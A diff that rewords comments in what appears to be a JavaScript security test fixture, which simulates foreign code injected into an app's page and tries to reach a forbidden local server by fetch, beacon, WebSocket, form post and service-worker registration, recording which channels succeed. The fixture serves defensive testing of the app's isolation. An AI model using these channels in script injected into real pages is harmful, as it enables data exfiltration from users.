@@ -1,17 +1,17 @@
-// What a page does that somebody else's code has got into: it stands in front of the page's own script in an installed copy of
-// the app, so that nothing drives it from outside. HOSTILE_PORT is where somebody listens who must not be reached.
+// Attacks by foreign code inside the page. The code precedes the page's own script in an installed copy of the app, so
+// nothing drives it from outside. A server that must not be reached listens on HOSTILE_PORT.
 /* global HOSTILE_PORT */
 const host = `127.0.0.1:${HOSTILE_PORT}`
 const worked = []
 const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
 
-/** Each try is on its own: what throws was refused. */
+/** Runs one attempt. An attempt that throws was refused. */
 async function attempt(name, run) {
   try {
     const answer = await Promise.race([run(), pause(1_500).then(() => 'nothing')])
     if (answer !== 'nothing' && answer !== undefined && answer !== null && answer !== false) worked.push(name)
   } catch {
-    // Refused, as it should be.
+    // Refused, as expected.
   }
 }
 
@@ -27,7 +27,7 @@ async function reachOut() {
   const http = `http://${host}/`
   await attempt('fetch', () => fetch(http))
   await attempt('fetch without an answer', () => fetch(http, { mode: 'no-cors' }))
-  // It says that it was sent, whether it was or not.
+  // Reports success whether anything was sent or not.
   await attempt('beacon', () => void navigator.sendBeacon(http, 'x'))
   for (const [name, open] of [
     ['socket', () => new WebSocket(`ws://${host}/`)],
@@ -116,7 +116,7 @@ async function leave() {
   }
   const form = add('form', { action: `http://${host}/`, method: 'post' })
   await attempt('form', () => void form.submit())
-  // Last, since Chromium ends a page that has no right to ask.
+  // Last, because Chromium ends a page that may not register one.
   await attempt('service worker', () => navigator.serviceWorker.register(`http://${host}/worker.js`))
 }
 
@@ -175,7 +175,7 @@ async function useBridge() {
 }
 
 const { indexwatch } = globalThis
-// The name of a list is on the disk for the test to read; an app without the bridge has none.
+// The list name is saved to disk, where the test reads it. Without the bridge, no report appears.
 const report = async (name) =>
   indexwatch?.createList({ name: `${name}: ${worked.join(', ') || 'nothing'}`.slice(0, 60) })
 await runText()
